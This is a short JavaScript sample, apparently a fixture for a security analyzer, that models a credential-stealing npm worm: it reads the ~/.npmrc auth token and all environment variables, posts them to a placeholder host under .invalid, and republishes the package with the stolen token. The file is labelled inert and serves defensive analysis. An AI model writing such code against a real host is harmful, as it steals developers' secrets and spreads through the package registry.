// INERT SAMPLE: the shape of a credential-stealing worm, for sapper analyze.
// It is never run: the host is under .invalid, and the package is not published.
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const { execSync } = require("child_process");
const npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const token = (npmrc.match(/_authToken=(.*)/) || [])[1];
const secrets = JSON.stringify(process.env);
const req = https.request({ hostname: "webhook.example.invalid", path: "/x", method: "POST" });
req.write(JSON.stringify({ token, secrets }));
req.end();
execSync("npm publish --access public", { env: { ...process.env, NPM_TOKEN: token } });
